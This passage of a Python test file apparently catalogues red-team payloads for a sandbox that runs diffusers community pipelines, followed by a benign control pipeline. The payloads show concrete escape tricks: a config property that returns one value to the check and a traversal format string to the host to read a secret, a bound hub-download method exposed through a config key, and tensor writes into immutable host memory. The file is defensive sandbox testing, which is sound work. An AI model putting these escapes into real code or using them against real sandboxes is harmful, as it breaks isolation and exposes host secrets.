                             "bar_format": "{_TRAVERSAL}"}}
    """,
    call="""
    sink = Sink()
    self._progress_bar_config["file"] = sink
    bar = self.progress_bar(total=1)
    bar.close()
    return "".join(sink.parts)
    """,
)
add(
    "r2_progress_bar_config_property",
    "_progress_bar_config as a property: checked value and used value can differ",
    SECRET,
    module=_TQDM_HELPERS + "\nSINK = Sink()\n",
    class_body=f"""
    @property
    def _progress_bar_config(self):
        return {{"desc": Desc(torch.nn.functional.relu), "mininterval": 0, "file": SINK,
                 "bar_format": "{_TRAVERSAL}"}}
    """,
    call="""
    bar = self.progress_bar(total=1)
    bar.close()
    return "".join(SINK.parts)
    """,
)
add(
    "r2_progress_bar_config_flipping_property",
    "_progress_bar_config property that answers the check with a safe dict and the host with the traversal",
    SECRET,
    module=_TQDM_HELPERS + "\nSINK = Sink()\nCOUNT = [0]\n",
    class_body=f"""
    @property
    def _progress_bar_config(self):
        COUNT[0] += 1
        if COUNT[0] == 1:
            return {{"file": SINK}}
        return {{"desc": Desc(torch.nn.functional.relu), "mininterval": 0, "file": SINK,
                 "bar_format": "{_TRAVERSAL}"}}
    """,
    call="""
    COUNT[0] = 2
    bar = self.progress_bar(total=1)
    bar.close()
    COUNT[0] = 0
    bar = self.progress_bar(total=1)
    bar.close()
    return "".join(SINK.parts)
    """,
)

add(
    "r2_progress_bar_unbound_host_method",
    "DiffusionPipeline.progress_bar(fake_self, ...): the unbound host method reads a config the guard never saw",
    SECRET,
    module=_TQDM_HELPERS + """

class Fake:
    def __init__(self, sink):
        self._progress_bar_config = {"desc": Desc(torch.nn.functional.relu), "mininterval": 0, "file": sink,
                                     "bar_format": "@TRAVERSAL@"}
""".replace("@TRAVERSAL@", _TRAVERSAL),
    call="""
    sink = Sink()
    bar = DiffusionPipeline.progress_bar(Fake(sink), total=1)
    bar.close()
    return "".join(sink.parts)
    """,
)

# ---- flaw 6: raw bound host methods handed to the pipeline ---------------------------------------
add(
    "r2_bound_components_download",
    "a config key named 'download' makes DiffusionPipeline.components hand back the raw bound "
    "DiffusionPipeline.download (a hub download)",
    RUNS,
    call="""
    self.register_to_config(download=None)
    fetch = self.components["download"]
    return str(callable(fetch))
    """,
)
_P[-1] = dataclasses.replace(
    _P[-1], template=_P[-1].template.replace("(self, unet, scheduler):", "(self, unet, scheduler, *download):")
)

# ---- red team round 3, F5: entry points that view memory they did not allocate ----------------
# A tensor is always writable; over an immutable bytes object (CPython shares one per single-byte
# value) or a read-only array it rewrites host memory. Each door is live in plain Python. (The
# direct doors, torch.frombuffer/asarray over bytes, are not refused but given a private copy:
# tests/sandbox/test_foreign_memory.py checks that the host bytes are unchanged.)
_ONE_BYTE_ARRAY = "numpy.ndarray(shape=(1,), dtype=numpy.uint8, buffer=bytes([{v}]))"
for _id, _what, _make, _value in (
    ("ndarray_buffer_from_numpy", "numpy.ndarray(buffer=bytes) + torch.from_numpy", f"torch.from_numpy({_ONE_BYTE_ARRAY})", 0xF3),
    ("ndarray_buffer_as_tensor", "numpy.ndarray(buffer=bytes) + torch.as_tensor", f"torch.as_tensor({_ONE_BYTE_ARRAY})", 0xF4),
    ("ndarray_buffer_bytetensor", "numpy.ndarray(buffer=bytes) + torch.ByteTensor", f"torch.ByteTensor({_ONE_BYTE_ARRAY})", 0xF5),
    ("ndarray_buffer_tensor_new", "numpy.ndarray(buffer=bytes) + tensor.new",
     f"torch.zeros(1, dtype=torch.uint8).new({_ONE_BYTE_ARRAY})", 0xF6),
):
    add(
        f"r3_memory_{_id}",
        f"{_what}, then an item write: the shared one-byte bytes object is rewritten in the host",
        STATE,
        imports="import numpy",
        call=f"t = {_make.format(v=_value)}\nt[0] = 1",
    )


ISSUE12_FAMILIES: dict[str, tuple[str, ...]] = {
    "1 ownership laundering": tuple(p.id for p in _P if p.id.startswith("r2_launder_")),
    "2 confused deputies": tuple(p.id for p in _P if p.id.startswith("r2_deputy_")),
    "3 unarmed sandboxed code": tuple(p.id for p in _P if p.id.startswith("r2_unarmed_")),
    "4 attribute-key checks": tuple(p.id for p in _P if p.id.startswith("r2_keys_")),
    "5 host-read configuration": tuple(p.id for p in _P if p.id.startswith("r2_progress_bar_")),
    "6 raw bound host methods": tuple(p.id for p in _P if p.id.startswith("r2_bound_")),
}

PAYLOADS: tuple[Payload, ...] = tuple(_P)
assert len({p.id for p in PAYLOADS}) == len(PAYLOADS), "duplicate payload ids"

#: Positive control: a benign pipeline written with the idioms real community files use
#: (super().__init__, register_modules, @torch.no_grad(), logging.get_logger(__name__),
#: self.__class__.__name__, inspect.signature(self.scheduler.step), property / staticmethod /
#: classmethod, single-underscore state, annotations, augmented attribute assignment,
#: randn_tensor, progress_bar). The sandbox must run it and match plain Python bit for bit.
BENIGN_SOURCE = '''\
"""A benign community pipeline: the idioms of diffusers' examples/community, nothing else."""
import inspect
import math
from typing import Optional

import numpy as np
import torch
from diffusers import DiffusionPipeline
from diffusers.utils import logging
from diffusers.utils.torch_utils import randn_tensor

logger = logging.get_logger(__name__)  # pylint: disable=invalid-name


class BenignIdiomsPipeline(DiffusionPipeline):
    _optional_components = []

    def __init__(self, unet, scheduler):
        super().__init__()
        self.register_modules(unet=unet, scheduler=scheduler)
        self._guidance_scale = 1.0

    @property
    def guidance_scale(self):
        return self._guidance_scale

    @staticmethod
    def _scale(sample: torch.Tensor, factor: float) -> torch.Tensor:
        return sample * factor

    @classmethod
    def describe(cls) -> str:
        return cls.__name__

    @torch.no_grad()
    def __call__(self, generator: Optional[torch.Generator] = None, num_inference_steps: int = 2):
        name: str = self.__class__.__name__
        logger.info("running %s (%s)", name, self.describe())
        self.set_progress_bar_config(disable=True)
        size = self.unet.config.sample_size
        shape = (1, self.unet.config.in_channels, size, size)
        image = randn_tensor(shape, generator=generator, dtype=self.unet.dtype)
        accepts_generator = "generator" in set(inspect.signature(self.scheduler.step).parameters.keys())
        self.scheduler.set_timesteps(num_inference_steps)
        self._step_count = 0
        for t in self.progress_bar(self.scheduler.timesteps):
            model_output = self.unet(image, t).sample
            extra = {}
            if accepts_generator:
                extra["generator"] = generator
            image = self.scheduler.step(model_output, t, image, **extra).prev_sample
            self._step_count += 1
        image = self._scale(image, self.guidance_scale * math.sqrt(1.0))
        scale = float(np.float32(1.0))
        return torch.cat([image * scale], dim=0)
'''
